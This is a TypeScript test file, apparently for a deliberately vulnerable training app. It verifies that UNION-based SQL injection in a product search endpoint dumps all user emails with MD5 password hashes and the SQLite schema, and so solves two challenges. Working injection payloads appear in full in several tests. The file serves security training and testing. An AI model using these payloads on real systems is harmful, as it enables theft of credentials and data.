import { beforeEach, describe, expect, it } from "vitest";
import { users } from "../../worker/db/seed/users";
import { call, isSolved, resetInstance } from "../support/instance";

const search = (q: string) => call(`/rest/products/search?q=${encodeURIComponent(q)}`);

describe("unionSqlInjectionChallenge and dbSchemaChallenge: UNION injection in the product search", () => {
  beforeEach(resetInstance);

  it("a UNION over Users returns every email and password hash and solves User Credentials", async () => {
    const response = await search("qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users--");
    expect(response.status).toBe(200);
    const { data } = await response.json();
    expect(data).toHaveLength(users.length);
    expect(data[0].description).toMatch(/^[0-9a-f]{32}$/); // an MD5 hash in the description column
    expect(await isSolved("unionSqlInjectionChallenge")).toBe(true);
    expect(await isSolved("dbSchemaChallenge")).toBe(false);
  });

  it("a UNION over sqlite_master returns every table's DDL and solves Database Schema", async () => {
    const response = await search("qwert')) UNION SELECT sql, '2', '3', '4', '5', '6', '7', '8', '9' FROM sqlite_master--");
    expect(response.status).toBe(200);
    const { data } = await response.json();
    expect(data.some((row: { id: unknown }) => String(row.id).startsWith("CREATE TABLE `Users`"))).toBe(true);
    expect(await isSolved("dbSchemaChallenge")).toBe(true);
  });

  it("leaking only some users or some tables solves neither", async () => {
    await search("qwert')) UNION SELECT id, email, password, '4', '5', '6', '7', '8', '9' FROM Users WHERE id < 3--");
    await search("qwert')) UNION SELECT sql, '2', '3', '4', '5', '6', '7', '8', '9' FROM sqlite_master WHERE name = 'Users'--");
    expect(await isSolved("unionSqlInjectionChallenge")).toBe(false);
    expect(await isSolved("dbSchemaChallenge")).toBe(false);
  });

  it("ordinary searches, even for the word union, solve neither", async () => {
    for (const q of ["", "orange", "union", "Users"]) expect((await search(q)).status).toBe(200);
    expect(await isSolved("unionSqlInjectionChallenge")).toBe(false);
    expect(await isSolved("dbSchemaChallenge")).toBe(false);
  });
});
